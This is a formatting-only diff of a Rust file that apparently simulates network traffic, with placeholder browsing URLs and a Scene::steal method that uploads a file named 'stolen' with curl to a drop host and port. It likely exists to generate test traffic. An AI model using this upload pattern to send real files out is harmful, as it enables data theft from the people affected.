@@ -21,8 +21,16 @@ const UPLOAD_SECS: &str = "8";
 
 /// What people do all day: name, and the arguments of curl.
 const BROWSING: [&[&str]; 4] = [
-    &["http://www.example/page-48000", "http://www.example/style-9000", "http://www.example/picture-310000"],
-    &["http://news.example/page-120000", "http://news.example/picture-85000", "http://news.example/script-44000"],
+    &[
+        "http://www.example/page-48000",
+        "http://www.example/style-9000",
+        "http://www.example/picture-310000",
+    ],
+    &[
+        "http://news.example/page-120000",
+        "http://news.example/picture-85000",
+        "http://news.example/script-44000",
+    ],
     &["http://files.example/download-20000000"],
     &["http://www.example/page-61000", "http://www.example/picture-150000"],
 ];
@@ -84,8 +92,7 @@ impl Scene {
     pub(super) fn steal(&self, host: &str, name: &str) -> Result<Background> {
         let url = format!("http://{host}:{DROP_PORT}/{name}");
         let file = self.folder.join("stolen").display().to_string();
-        let arguments =
-            ["-sS", "--max-time", UPLOAD_SECS, "-T", file.as_str(), url.as_str()];
+        let arguments = ["-sS", "--max-time", UPLOAD_SECS, "-T", file.as_str(), url.as_str()];
         self.network.client.spawn("curl", arguments)
     }
 
